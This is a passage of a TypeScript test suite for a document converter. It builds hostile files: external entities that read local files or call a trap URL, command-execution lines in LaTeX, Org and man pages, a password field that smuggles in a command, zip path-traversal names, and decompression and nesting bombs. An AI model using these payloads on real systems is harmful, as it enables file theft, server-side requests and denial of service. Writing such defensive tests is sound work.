      `<img src="${place}" srcset="${place} 2x"><iframe src="${place}"></iframe><object data="${place}"></object><embed src="${place}"><video src="${place}" poster="${place}"></video><audio src="${place}"></audio><link rel="stylesheet" href="${place}"><link rel="import" href="${place}"><script src="${place}"></script><table background="${place}"><tr><td background="${place}">t</td></tr></table><p style="background:url(${place})">s</p><input type="image" src="${place}"><svg xmlns="http://www.w3.org/2000/svg"><image href="${place}" width="9" height="9"/></svg><picture><source srcset="${place}"></picture><style>@import url("${place}");@font-face{font-family:f;src:url(${place})}</style><applet code="${place}" archive="${place}"></applet><bgsound src="${place}"><frame src="${place}">`,
  );

const PAGES: readonly Case[] = [
  ...toEach(['pdf', 'docx', 'odt', 'epub', 'png', 'md', 'rtf', 'fb2', 'txt'], {
    name: 'a page that loads what lies elsewhere',
    file: (trap) =>
      `<!DOCTYPE html><html><head><base href="${trap.url}/"><meta http-equiv="refresh" content="0;url=${trap.url}/r"></head><body background="${trap.url}/b"><p>kestrel</p>${pageReach(trap)}<img src="relative.png"></body></html>`,
    as: 'a.html',
    ocr: true,
  }),
  ...toEach(['html', 'docx', 'epub', 'pdf', 'odt', 'tex', 'rtf', 'fb2', 'ipynb'], {
    name: 'Markdown that loads what lies elsewhere',
    file: (trap) =>
      `---\ncss: ${trap.text}\ncover-image: ${trap.picture}\nbibliography: ${trap.text}\ninclude-before: ${trap.text}\nheader-includes: "\\\\input{${trap.text}}"\n---\n\n# kestrel\n\n${places(
        trap,
      )
        .map((place) => `![x](${place}) ![y](<${place}>){data-src="${place}"} [z](${place})\n`)
        .join(
          '\n',
        )}\n\n\`\`\`{.include include="${trap.text}"}\n${trap.picture}\n\`\`\`\n\n{{${trap.text.slice(1)}x}}\n\n\\input{${trap.text.slice(0, 5)}}\n\n${pageReach(trap)}\n`,
    as: 'a.md',
    // A link keeps its address, which is what the file itself says.
  }),
  ...toEach(['html', 'docx', 'epub', 'txt'], {
    name: 'reStructuredText that includes',
    file: (trap) =>
      `kestrel\n=======\n\n${places(trap)
        .map(
          (place, i) =>
            `.. include:: ${place}\n\n.. include:: ${place}\n   :literal:\n\n.. raw:: html\n   :file: ${place}\n\n.. raw:: html\n   :url: ${place}\n\n.. csv-table:: t\n   :file: ${place}\n\n.. csv-table:: t\n   :url: ${place}\n\n.. literalinclude:: ${place}\n\n.. code:: text\n   :include: ${place}\n\n.. image:: ${place}\n\n.. figure:: ${place}\n\n.. |s${i}| image:: ${place}\n\n|s${i}|\n`,
        )
        .join('\n')}\n.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:\`<script>1</script>\`\n`,
    as: 'a.rst',
  }),
  ...toEach(['html', 'docx', 'md', 'txt'], {
    name: 'LaTeX that includes and writes',
    file: (trap) =>
      `\\documentclass{article}\n\\usepackage{${trap.text}}\n\\immediate\\write18{touch /tmp/filemill-was-here}\n\\newread\\f\\openin\\f=${trap.text}\\read\\f to\\l\n\\newwrite\\o\\immediate\\openout\\o=${trap.folder}/tex\n\\begin{document}\nkestrel \\l\n${places(
        trap,
      )
        .map(
          (place) =>
            `\\input{${place}}\\include{${place}}\\subfile{${place}}\\lstinputlisting{${place}}\\verbatiminput{${place}}\\includegraphics{${place}}\\bibliography{${place}}\\import{/}{${place}}`,
        )
        .join('\n')}\n\\input|"cat ${trap.text}"\n\\end{document}\n`,
    as: 'a.tex',
  }),
  ...toEach(['html', 'docx', 'md'], {
    name: 'Org that includes',
    file: (trap) =>
      `#+TITLE: kestrel\n${places(trap)
        .map(
          (place) =>
            `#+INCLUDE: "${place}"\n#+INCLUDE: "${place}" src text\n#+SETUPFILE: ${place}\n#+BIBLIOGRAPHY: ${place}\n\n[[${place}]]\n[[file:${place}]]\n`,
        )
        .join(
          '\n',
        )}\n#+BEGIN_SRC sh :results output :exports both\ntouch /tmp/filemill-was-here\n#+END_SRC\n#+MACRO: m (eval (shell-command "touch /tmp/filemill-was-here"))\n{{{m}}}\n`,
    as: 'a.org',
  }),
  ...toEach(['html', 'txt'], {
    name: 'a manual page that includes',
    file: ({ text, picture }) =>
      `.TH kestrel 1\n.SH NAME\nkestrel\n.so ${text}\n.mso ${text}\n.PSPIC ${picture}\n.sy touch /tmp/filemill-was-here\n.pi cat ${text}\n.open f ${text}\n.cf ${text}\n`,
    as: 'a.man',
    ends: 'neutral',
  }),
  ...toEach(['html', 'docx', 'epub'], {
    name: 'DocBook with entities and inclusions',
    file: (trap) =>
      `<?xml version="1.0"?><!DOCTYPE article PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "${trap.url}/d.dtd" [<!ENTITY f SYSTEM "file://${trap.text}"><!ENTITY h SYSTEM "${trap.url}/h"><!ENTITY % p SYSTEM "${trap.url}/p">%p;]><article xmlns:xi="http://www.w3.org/2001/XInclude"><title>kestrel</title><para>&f;&h;</para><xi:include href="${trap.text}" parse="text"/><xi:include href="${trap.url}/x"/>${each(trap, (place) => `<mediaobject><imageobject><imagedata fileref="${place}"/></imageobject><textobject><textdata fileref="${place}"/></textobject></mediaobject><programlisting><textdata fileref="${place}"/><xi:include href="${place}" parse="text"/></programlisting>`)}</article>`,
    as: 'a.dbk',
  }),
  ...[
    [
      'opml',
      (text: string, url: string) =>
        `<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY f SYSTEM "file://${text}"><!ENTITY h SYSTEM "${url}/h">]><opml version="2.0"><head><title>&f;</title></head><body><outline text="kestrel &f; &h;" type="include" url="file://${text}"/></body></opml>`,
    ] as const,
    [
      'fb2',
      (text: string, url: string) =>
        `<?xml version="1.0"?><!DOCTYPE FictionBook [<!ENTITY f SYSTEM "file://${text}"><!ENTITY h SYSTEM "${url}/h">]><FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0" xmlns:l="http://www.w3.org/1999/xlink"><description/><body><section><p>kestrel &f;&h;</p><image l:href="${url}/i.png"/><image l:href="file://${text}"/></section></body></FictionBook>`,
    ] as const,
  ].flatMap(([format, make]) =>
    toEach(['html', 'docx', 'epub'], {
      name: `${format} with entities of files`,
      file: ({ text, url }: Trap) => make(text, url),
      as: `a.${format}`,
    }),
  ),
  ...toEach(['html', 'docx', 'md'], {
    name: 'a notebook that loads what lies elsewhere',
    file: (trap) =>
      JSON.stringify({
        nbformat: 4,
        nbformat_minor: 5,
        metadata: { 'cover-image': trap.picture, css: trap.text },
        cells: [
          {
            cell_type: 'markdown',
            metadata: {},
            source: places(trap).map((place) => `![x](${place}) ![y](attachment:${place})`),
            attachments: { a: { 'image/png': 'AAAA' } },
          },
          { cell_type: 'raw', metadata: { format: 'text/html' }, source: [pageReach(trap)] },
          {
            cell_type: 'code',
            metadata: {},
            execution_count: 1,
            source: ['!touch /tmp/filemill-was-here'],
            outputs: [{ output_type: 'display_data', metadata: {}, data: { 'text/html': [pageReach(trap)], 'image/png': 'AAAA' } }],
          },
        ],
      }),
    as: 'a.ipynb',
  }),
  ...['wiki', 'textile'].flatMap((format) =>
    toEach(['html', 'docx'], {
      name: `${format} that loads what lies elsewhere`,
      file: (trap) =>
        `h1. kestrel\n\n= kestrel =\n\n${places(trap)
          .map((place) => `!${place}!\n\n[[File:${place}|thumb]] {{:${place}}} [[Image:${place}]]`)
          .join('\n\n')}\n${pageReach(trap)}`,
      as: `a.${format}`,
    }),
  ),
  ...toEach(['html', 'docx', 'pdf', 'txt', 'mobi', 'azw3', 'htmlz'], {
    name: 'a book whose names climb and whose chapters reach out',
    file: (trap) =>
      epub(
        xhtml(
          `${pageReach(trap).replaceAll(/<(img|embed|link|input|source|bgsound|frame) ([^>]*)>/g, '<$1 $2/>')}<script>fetch("${trap.url}/s")</script><iframe src="file://${trap.text}"/>&f;`,
          `<!DOCTYPE html [<!ENTITY f SYSTEM "file://${trap.text}">]>`,
        ),
        [
          [`../../../../../../../..${trap.folder}/slip.txt`, 'x'],
          [`${trap.folder}/slip2.txt`, 'x'],
          [`..\\..\\..${trap.folder.replaceAll('/', '\\')}\\slip3.txt`, 'x'],
          ['a\0b.xhtml', xhtml('x')],
        ],
        `<item id="two" href="../../../../../..${trap.text}" media-type="text/plain"/><item id="three" href="file://${trap.picture}" media-type="image/png" properties="cover-image"/><item id="four" href="${trap.url}/x.xhtml" media-type="application/xhtml+xml"/>`,
        `<!DOCTYPE package [<!ENTITY f SYSTEM "file://${trap.text}">]>`,
      ),
    as: 'a.epub',
  }),
];

const svg = (inner: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100">${inner}</svg>`;

const SVGS: readonly Case[] = [
  ...toEach(['emf', 'wmf'], {
    name: 'a drawing that reaches out',
    file: (trap) =>
      svg(
        places(trap)
          .map((place) => `<image width="9" height="9" href="${place}" xlink:href="${place}"/><use xlink:href="${place}#a"/>`)
          .join(''),
      ),
    as: 'a.svg',
  }),
  ...toEach(['emf'], {
    name: 'a drawing that uses itself ten times, nine deep',
    file: svg(
      `<defs><rect id="u0" width="1" height="1"/>${Array.from({ length: 9 }, (_, at) => `<g id="u${at + 1}">${`<use xlink:href="#u${at}"/>`.repeat(10)}</g>`).join('')}</defs><use xlink:href="#u9"/>`,
    ),
    as: 'a.svg',
  }),
  ...toEach(['emf'], {
    name: 'a drawing of endless noise',
    file: svg('<filter id="n"><feTurbulence numOctaves="999999999"/></filter><rect width="99" height="99" filter="url(#n)"/>'),
    as: 'a.svg',
    ends: 'fail',
    why: 'input_limit',
  }),
];
/** What calibre packs: its chapters are pages, and pages link others. */
const PACKED_BOOKS: readonly Case[] = ['htmlz', 'txtz', 'pmlz'].flatMap((format) =>
  toEach(['epub', 'docx', 'html'], {
    name: `a ${format} whose names climb and whose pages reach out`,
    file: (trap) => {
      const reach = pageReach(trap);
      const main = { htmlz: 'index.html', txtz: 'index.txt', pmlz: 'book.pml' }[format] ?? '';
      const pml = places(trap).map((place) => `\\m="${place}"`);
      return zip([
        [
          main,
          format === 'pmlz'
            ? `kestrel\n${pml.join('\n')}`
            : `<html><body>kestrel ${reach}<a href="file://${trap.text}">a</a></body></html>`,
        ],
        [
          'metadata.opf',
          `${XML}<package xmlns="http://www.idpf.org/2007/opf"><metadata/><guide><reference type="cover" href="../../..${trap.picture}"/></guide></package>`,
        ],
        [`../../../../../../../..${trap.folder}/slip.png`, 'x'],
        [`${trap.folder}/slip2.png`, 'x'],
      ]);
    },
    as: `a.${format}`,
  }),
);

/** Ten times ten times … a word, and one long word many times. */
const LAUGHS = (root: string, levels = 9): string =>
  `<!DOCTYPE ${root} [<!ENTITY l0 "ha ha ha ">${Array.from({ length: levels }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>`;
const QUADRATIC = (root: string): string => `<!DOCTYPE ${root} [<!ENTITY q "${'x'.repeat(60_000)}">]>`;
const MANY_QUADRATIC = '&q;'.repeat(20_000);

const ENTITIES: readonly Case[] = [
  ...(
    [
      ['laughs', LAUGHS, '&l9;'],
      ['long entities', QUADRATIC, MANY_QUADRATIC],
    ] as const
  ).flatMap(([what, doctype, use]): Case[] => [
    ...toEach(['pdf', 'md'], { name: `a DOCX with ${what}`, file: docx(run(use), { doctype: doctype('w:document') }), as: 'a.docx' }),
    ...toEach(['pdf', 'md'], {
      name: `an ODT with ${what}`,
      file: packed('text', `<text:p>${use}</text:p>`, { doctype: doctype('office:document-content') }),
      as: 'a.odt',
    }),
    ...toEach(['pdf'], {
      name: `a flat ODT with ${what}`,
      file: flat('text', `<text:p>${use}</text:p>`, { doctype: doctype('office:document') }),
      as: 'a.fodt',
    }),
    ...toEach(['csv'], {
      name: `a workbook with ${what}`,
      file: xlsx(`<row r="1"><c r="A1" t="inlineStr"><is><t>${use}</t></is></c></row>`, { doctype: doctype('worksheet') }),
      as: 'a.xlsx',
    }),
    ...toEach(['html'], {
      name: `an OPML with ${what}`,
      file: `<?xml version="1.0"?>${doctype('opml')}<opml version="2.0"><head><title>t</title></head><body><outline text="${use}"/></body></opml>`,
      as: 'a.opml',
    }),
    ...toEach(['html'], {
      name: `a FictionBook with ${what}`,
      file: `<?xml version="1.0"?>${doctype('FictionBook')}<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><section><p>${use}</p></section></body></FictionBook>`,
      as: 'a.fb2',
    }),
    ...toEach(['html'], {
      name: `a DocBook with ${what}`,
      file: `<?xml version="1.0"?>${doctype('article')}<article xmlns="http://docbook.org/ns/docbook"><para>${use}</para></article>`,
      as: 'a.dbk',
    }),
    ...toEach(['html'], { name: `a book with ${what}`, file: epub(xhtml(`<p>${use}</p>`, doctype('html'))), as: 'a.epub' }),
  ]),
  ...toEach(['pdf', 'md', 'html'], {
    name: 'a DOCX with entities of files',
    file: ({ text, url }) =>
      docx(run('kestrel &f; &h;'), {
        doctype: `<!DOCTYPE w:document [<!ENTITY f SYSTEM "file://${text}"><!ENTITY h SYSTEM "${url}/h"><!ENTITY % p SYSTEM "${url}/p">%p;]>`,
      }),
    as: 'a.docx',
  }),
  ...toEach(['pdf', 'md', 'docx'], {
    name: 'an ODT with entities of files',
    file: ({ text, url }) =>
      packed('text', '<text:p>kestrel &f; &h;</text:p>', {
        doctype: `<!DOCTYPE office:document-content [<!ENTITY f SYSTEM "file://${text}"><!ENTITY h SYSTEM "${url}/h"><!ENTITY % p SYSTEM "${url}/p">%p;]>`,
      }),
    as: 'a.odt',
  }),
  ...toEach(['csv'], {
    name: 'a workbook with entities of files',
    file: ({ text, url }) =>
      xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>k &f; &h;</t></is></c></row>', {
        doctype: `<!DOCTYPE worksheet [<!ENTITY f SYSTEM "file://${text}"><!ENTITY h SYSTEM "${url}/h">]>`,
      }),
    as: 'a.xlsx',
  }),
];

const table = (rows: string): string => `<table:table table:name="One">${rows}</table:table>`;
const BIG_PNG = Buffer.concat(
  (() => {
    const chunk = (type: string, data: Buffer) => {
      const body = Buffer.concat([latin1(type), data]);
      const head = Buffer.alloc(4);
      head.writeUInt32BE(data.length);
      const tail = Buffer.alloc(4);
      tail.writeUInt32BE(crc32(body));
      return Buffer.concat([head, body, tail]);
    };
    const header = Buffer.alloc(13);
    header.writeUInt32BE(50_000, 0);
    header.writeUInt32BE(50_000, 4);
    header.set([1, 0, 0, 0, 0], 8);
    return [
      latin1('\x89PNG\r\n\x1a\n'),
      chunk('IHDR', header),
      chunk('IDAT', Buffer.concat([latin1('\x78\x9c'), deflateRawSync(Buffer.alloc(50_000_000))])),
      chunk('IEND', Buffer.alloc(0)),
    ];
  })(),
);
const LIMITS = ['input_limit', 'memory', 'timeout', 'engine_crashed', 'corrupt_input', 'output_limit', 'output_invalid'];
const bomb = (name: string, as: string, targets: readonly string[], file: Case['file'], ends: Case['ends'] = HARMLESS): Case[] =>
  toEach(targets, { name, as, file, ends, why: LIMITS });

const BOMBS: readonly Case[] = [
  ...bomb('a DOCX whose text inflates to 1 GB', 'a.docx', ['pdf'], () =>
    docx('', { main: swollen(`${wordStart()}<w:p><w:r><w:t>`, 'x ', `</w:t></w:r></w:p>${WORD_END}`, 1000) }),
  ),
  ...bomb('a DOCX of 1 GB whose headers say 99 bytes', 'a.docx', ['md'], () =>
    docx('', { main: swollen(`${wordStart()}<w:p><w:r><w:t>`, 'x ', `</w:t></w:r></w:p>${WORD_END}`, 1000, 99) }),
  ),
  ...bomb('a DOCX of a few bytes whose headers say 4 GB', 'a.docx', ['pdf', 'md'], () =>
    docx('', { main: swollen(wordStart(), '<w:p/>', WORD_END, 0, 0xffff_fffe) }),
  ),
  ...bomb(
    'a DOCX of a million paragraphs',
    'a.docx',
    ['txt'],
    () => docx('', { main: swollen(wordStart(), run('x y z'), WORD_END, 70) }),
    'fail',
  ),
  ...bomb(
    'an ODT whose text inflates to 1 GB',
    'a.odt',
    ['html'],
    () => packed('text', '', { main: swollen(`${openStart('text')}<text:p>`, 'x ', `</text:p>${openEnd('text')}`, 1000) }),
    'fail',
  ),
  ...bomb(
    'a workbook that inflates to 2.2 GB',
    'a.xlsx',
    ['csv'],
    () =>
      xlsx('', { main: swollen(`${XML}<worksheet ${SHEET}><sheetData>`, '<row><c><v>1</v></c></row>', '</sheetData></worksheet>', 2100) }),
    'fail',
  ),
  ...bomb(
    'a book whose chapter inflates to 1 GB',
    'a.epub',
    ['html', 'mobi'],
    () => epub(swollen(xhtml('').replace('</body></html>', ''), '<p>x</p>', '</body></html>', 1000)),
    'fail',
  ),
  ...bomb('a DOCX of 25 000 parts', 'a.docx', ['pdf'], () =>
    docx(run('kestrel'), { parts: Array.from({ length: 25_000 }, (_, i) => [`word/p${i}.xml`, 'x'] as const) }),
  ),
  ...bomb('a DOCX in a DOCX, eight deep', 'a.docx', ['pdf'], () => {
    let inner = docx(run('kestrel'));
    for (let depth = 0; depth < 8; depth++)
      inner = docx(
        `${run('kestrel')}<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Word.Document.12" ShapeID="s" r:id="e"/></w:object></w:r></w:p><w:altChunk r:id="c"/>`,
        {
          relations: [
            ['e', 'package', 'embeddings/a.docx'],
            ['c', 'aFChunk', 'embeddings/a.docx'],
          ],
          types: { 'word/embeddings/a.docx': `${TYPE}.wordprocessingml.document` },
          parts: [['word/embeddings/a.docx', inner]],
        },
      );
    return inner;
  }),
  ...bomb('a DOCX with names that climb out', 'a.docx', ['pdf', 'md', 'html'], ({ folder }) =>
    docx(run('kestrel'), {
      parts: [
        `../../../../../../../..${folder}/slip`,
        `${folder}/slip2`,
        `C:\\slip3`,
        `word/../../../..${folder}/slip4`,
        'word/media/\0',
        '',
        '/',
        '..',
        'word/media/%2e%2e%2f%2e%2e%2fslip5.png',
      ].map((name) => [name, 'x'] as const),
    }),
  ),
  ...bomb('an ODT with names that climb out', 'a.odt', ['pdf', 'md', 'html'], ({ folder }) =>
    packed(
      'text',
      `<text:p><draw:frame svg:width="3cm" svg:height="3cm"><draw:image xlink:href="Pictures/../../../..${folder}/picture.png"/></draw:frame>kestrel</text:p>`,
      {
        parts: [
          `../../../../../..${folder}/slip`,
          `${folder}/slip2`,
          `Pictures/../../../..${folder}/slip3`,
          'Basic/../x',
          'Pictures/%2e%2e%2fslip4',
        ].map((name) => [name, 'x'] as const),
      },
    ),
  ),
  ...bomb('a DOCX with a picture of 50 000 by 50 000', 'a.docx', ['pdf', 'odt'], () =>
    docx(run('kestrel') + drawing('r:embed="e"'), { relations: [['e', 'image', 'media/a.png']], parts: [['word/media/a.png', BIG_PNG]] }),
  ),
  ...bomb('a DOCX of tables in tables', 'a.docx', ['md'], () =>
    docx(`${'<w:tbl><w:tr><w:tc>'.repeat(3000)}${run('x')}${'</w:tc></w:tr></w:tbl>'.repeat(3000)}`),
  ),
  ...bomb(
    'a DOCX of 3 000 pages',
    'a.docx',
    ['pdf'],
    () => docx(`${run('x')}<w:p><w:r><w:br w:type="page"/></w:r></w:p>`.repeat(3000)),
    'fail',
  ),
  ...bomb('a DOCX whose styles are based on each other', 'a.docx', ['pdf'], () =>
    docx('<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>', {
      relations: [['s', 'styles', 'styles.xml']],
      types: { 'word/styles.xml': 'wordprocessingml.styles' },
      parts: [
        [
          'word/styles.xml',
          `${XML}<w:styles ${WORD}><w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style></w:styles>`,
        ],
      ],
    }),
  ),
  ...bomb('an ODT with two billion blanks', 'a.fodt', ['pdf', 'txt'], flat('text', '<text:p>x<text:s text:c="2000000000"/>y</text:p>')),
  ...bomb(
    'an ODT with a table of a billion cells',
    'a.fodt',
    ['pdf', 'md'],
    flat(
      'text',
      table(
        '<table:table-column table:number-columns-repeated="30000"/><table:table-row table:number-rows-repeated="30000"><table:table-cell table:number-columns-repeated="30000"><text:p>x</text:p></table:table-cell></table:table-row>',
      ),
    ),
  ),
  ...bomb(
    'an ODT of lists in lists',
    'a.fodt',
    ['pdf'],
    flat('text', `${'<text:list><text:list-item>'.repeat(20_000)}<text:p>x</text:p>${'</text:list-item></text:list>'.repeat(20_000)}`),
  ),
  ...bomb(
    'an ODT on a page of a thousand kilometres',
    'a.fodt',
    ['png'],
    flat('text', '<text:p>x</text:p>', {
      before:
        '<office:automatic-styles><style:page-layout style:name="P"><style:page-layout-properties fo:page-width="100000000cm" fo:page-height="100000000cm"/></style:page-layout></office:automatic-styles><office:master-styles><style:master-page style:name="Standard" style:page-layout-name="P"/></office:master-styles>',
    }),
  ),
  ...bomb(
    'a sheet full to its last cell',
    'a.fods',
    ['csv'],
    flat(
      'spreadsheet',
      table(
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>',
      ),
    ),
    'fail',
  ),
  ...bomb('a sheet with its last cell alone', 'a.xlsx', ['pdf', 'csv'], xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
  ...bomb(
    'a workbook with cells beyond the last',
    'a.xlsx',
    ['csv'],
    xlsx('<row r="4294967295"><c r="ZZZZZZ99999999"><v>1</v></c></row><row r="-1"><c r="A0"><v>1</v></c></row>'),
  ),
  ...bomb(
    'a workbook whose formulas never end',
    'a.xlsx',
    ['csv'],
    xlsx(
      `<row r="1">${cell('A1', 'B1+1')}${cell('B1', 'A1+1')}${cell('C1', 'SUMPRODUCT((A1:A1048576=TRANSPOSE(A1:A1048576))*1)')}${cell('D1', 'REPT("x",2000000000)')}${cell('E1', `${'('.repeat(5000)}1${')'.repeat(5000)}`)}${cell('F1', 'SUM(A1:XFD1048576)')}</row>`,
    ),
  ),
  ...bomb('a CSV of a million rows', 'a.csv', ['xlsx'], () => 'a,b\n'.repeat(1_000_000)),
  ...bomb('a CSV of one row and a million columns', 'a.csv', ['xlsx'], () => `${'a,'.repeat(1_000_000)}\nb,c\n`),
  ...bomb('a CSV with one cell of 20 MB', 'a.csv', ['xlsx'], () => `a,"${'x y '.repeat(5_000_000)}"\nb,c\n`),
  ...bomb('a text of one line of 20 MB', 'a.txt', ['pdf'], () => 'x'.repeat(20_000_000)),
  ...bomb('an RTF of groups in groups', 'a.rtf', ['txt'], () => `{\\rtf1 ${'{\\b '.repeat(200_000)}x${'}'.repeat(200_000)}}`),
  ...bomb('an RTF that never closes', 'a.rtf', ['pdf'], () => `{\\rtf1 kestrel ${'{\\*\\objdata '.repeat(20_000)}`),
  ...bomb(
    'an RTF with 2 GB of binary to come',
    'a.rtf',
    ['pdf'],
    '{\\rtf1 kestrel {\\pict\\wmetafile8\\picw2147483647\\pich2147483647\\bin2147483647 x}}',
  ),
  ...bomb('a page of divisions in divisions', 'a.html', ['docx'], () => `<html><body>${'<div>'.repeat(50_000)}x${'</div>'.repeat(50_000)}`),
  ...bomb('a page of tables in tables', 'a.html', ['docx'], () => `<html><body>${'<table><tr><td>'.repeat(5000)}x`),
  ...bomb('a page of inline marks in marks', 'a.html', ['pdf'], () => `<html><body><p>${'<b><i>'.repeat(20_000)}x`),
  ...bomb(
    'a page with spans of a billion cells',
    'a.html',
    ['pdf', 'md', 'docx'],
    '<html><body><table><tr><td colspan="1000000000" rowspan="1000000000">x</td><td>y</td></tr><tr><td>z</td></tr></table></body></html>',
  ),
  ...(
    [
      ['quotes in quotes', `${'>'.repeat(20_000)} x`],
      ['lists in lists', Array.from({ length: 500 }, (_, i) => `${' '.repeat(2 * i)}- x`).join('\n')],
      ['open brackets', '['.repeat(50_000)],
      ['links in links', `${'[a]('.repeat(20_000)}`],
      ['stars', '*a **a '.repeat(20_000)],
      ['backticks', Array.from({ length: 400 }, (_, i) => `${'`'.repeat(i + 1)} `).join('')],
      ['definitions', Array.from({ length: 30_000 }, (_, i) => `[a${i}]: /x\n`).join('') + '[a] '.repeat(30_000)],
      ['a table of a million cells', `|${'a|'.repeat(1000)}\n|${'-|'.repeat(1000)}\n${`|${'|'.repeat(1000)}\n`.repeat(1000)}`],
      ['entities', '&'.repeat(50_000)],
      ['comments that never close', '<!--'.repeat(20_000)],
    ] as const
  ).flatMap(([what, text]) => bomb(`Markdown of ${what}`, 'a.md', ['html'], text)),
  ...bomb(
    'LaTeX that defines itself',
    'a.tex',
    ['html'],
    '\\documentclass{article}\\def\\a{\\a\\a}\\newcommand{\\b}{x\\b}\\begin{document}\\a\\b\\end{document}',
  ),
  ...bomb(
    'LaTeX with a billion laughs',
    'a.tex',
    ['html'],
    `\\documentclass{article}\\newcommand{\\la}{ha}${Array.from({ length: 20 }, (_, i) => `\\newcommand{\\l${String.fromCharCode(98 + i)}}{${`\\l${String.fromCharCode(97 + i)}`.repeat(10)}}`).join('')}\\begin{document}\\lu\\end{document}`,
  ),
  ...bomb(
    'LaTeX of groups in groups',
    'a.tex',
    ['html'],
    `\\documentclass{article}\\begin{document}${'{'.repeat(30_000)}x${'}'.repeat(30_000)}\\end{document}`,
  ),
  ...bomb('a manual page that defines itself', 'a.man', ['html'], '.TH a 1\n.de A\n.A\n.A\n..\n.A\n'),
  ...bomb(
    'a notebook of arrays in arrays',
    'a.ipynb',
    ['html', 'docx'],
    `{"nbformat":4,"nbformat_minor":5,"cells":[],"metadata":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
  ),
  ...bomb(
    'a notebook with a number of a billion digits',
    'a.ipynb',
    ['html'],
    '{"nbformat":4,"nbformat_minor":5,"cells":[],"metadata":{"a":1e1000000000}}',
  ),
  ...bomb(
    'an outline of outlines in outlines',
    'a.opml',
    ['html', 'docx'],
    `<opml version="2.0"><head><title>t</title></head><body>${'<outline text="x">'.repeat(20_000)}${'</outline>'.repeat(20_000)}</body></opml>`,
  ),
  ...bomb(
    'a book of sections in sections',
    'a.fb2',
    ['html', 'docx'],
    `<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body>${'<section>'.repeat(20_000)}<p>x</p>${'</section>'.repeat(20_000)}</body></FictionBook>`,
  ),
  ...bomb(
    'reStructuredText of tables without end',
    'a.rst',
    ['html'],
    () => `${'=== '.repeat(5000)}\n${'a   '.repeat(5000)}\n${'=== '.repeat(5000)}\n\n${'+---'.repeat(1000)}+\n${'|   '.repeat(1000)}|\n`,
  ),
  ...bomb(
    'reStructuredText whose substitutions circle',
    'a.rst',
    ['html'],
    '.. |a| replace:: |b| |b|\n.. |b| replace:: |a| |a|\n\n|a| `x`_\n\n.. _x: y_\n.. _y: x_\n',
  ),
  ...bomb('Org of stars and tables', 'a.org', ['html'], () => `${'*'.repeat(50_000)} x\n${'|'.repeat(20_000)}\n${'[['.repeat(20_000)}\n`),
  ...bomb(
    'wiki text of templates in templates',
    'a.wiki',
    ['html'],
    () => `= x =\n${'{{'.repeat(10_000)}\n${'{|\n|-\n|'.repeat(1000)}\n${"'''''".repeat(5000)}\n`,
  ),
];

const SHUT: readonly Case[] = [
  ...(['docx', 'odt', 'xlsx'] as const).flatMap((format): Case[] => {
    const file = async () => (await locked()).get(format) ?? '';
    const to = format === 'xlsx' ? 'csv' : 'txt';
    return [
      { name: `a locked ${format}`, file, as: `a.${format}`, to, ends: 'fail', why: 'password_required' },
      { name: `a locked ${format}`, file, as: `a.${format}`, to: 'pdf', ends: 'fail', why: 'password_required' },
      {
        name: `a locked ${format} and another password`,
        file,
        as: `a.${format}`,
        to,
        fields: { password: 'guess' },
        ends: 'fail',
        why: 'wrong_password',
      },
      {
        name: `a locked ${format} and a password of an option's shape`,
        file,
        as: `a.${format}`,
        to,
        fields: { password: '--help" $(id) `id`' },
        ends: 'fail',
        why: 'wrong_password',
      },
      {
        name: `a locked ${format} and its password`,
        file,
        as: `a.${format}`,
        to,
        fields: { password: PASSWORD },
        ends: 'neutral',
        judge: (output) => expect(output.toString()).toMatch(LOCKED_WORD),
      },
      // What reads only the open parts has to say the same.
      {
        name: `a locked ${format}`,
        file,
        as: `a.${format}`,
        to: format === 'xlsx' ? 'html' : 'md',
        ends: 'fail',
        why: 'password_required',
      },
    ];
  }),
  ...toEach(['pdf', 'html'], {
    name: 'a compound file that says it is an encrypted document',
    file: compoundOf(['EncryptedPackage', 'EncryptionInfo']),
    as: 'a.docx',
    ends: 'fail',
  }),
  ...toEach(['pdf'], {
    name: 'a compound file that says it is a letter',
    file: compoundOf(['WordDocument', '1Table']),
    as: 'a.doc',
    ends: 'fail',
  }),
  ...toEach(['pdf', 'csv'], {
    name: 'a compound file that says it is a workbook',
    file: compoundOf(['Workbook']),
    as: 'a.xls',
    ends: 'fail',
  }),
  ...toEach(['pdf'], {
    name: 'a compound file that says it is slides',
    file: compoundOf(['PowerPoint Document', 'Current User']),
    as: 'a.ppt',
    ends: 'fail',
  }),
  ...toEach(['pdf'], {
    name: 'a compound file and noise',
    file: Buffer.concat([compoundOf(['WordDocument']), noise(5000, 3)]),
    as: 'a.doc',
    ends: 'fail',
  }),
  ...toEach(['pdf', 'md'], {
    name: 'a DOCX of names only',
    file: zipOf([{ name: '[Content_Types].xml' }, { name: 'word/document.xml' }]),
    as: 'a.docx',
    ends: HARMLESS,
  }),
  ...toEach(['pdf', 'html'], {
    name: 'a book of names only',
    file: zipOf([{ name: 'mimetype', content: 'application/epub+zip' }]),
    as: 'a.epub',
    ends: 'fail',
  }),
  ...toEach(['pdf', 'md'], {
    name: 'an ODT of names only',
    file: zipOf([{ name: 'mimetype', content: media('text') }]),
    as: 'a.odt',
    ends: 'fail',
  }),
  ...toEach(['pdf'], {
    name: 'a DOCX by its first half, and a book by its second',
    file: Buffer.concat([docx(run('kestrel')), epub(xhtml('marble'))]),
    as: 'a.docx',
    ends: HARMLESS,
  }),
  {
    name: 'a ZIP that is nothing else',
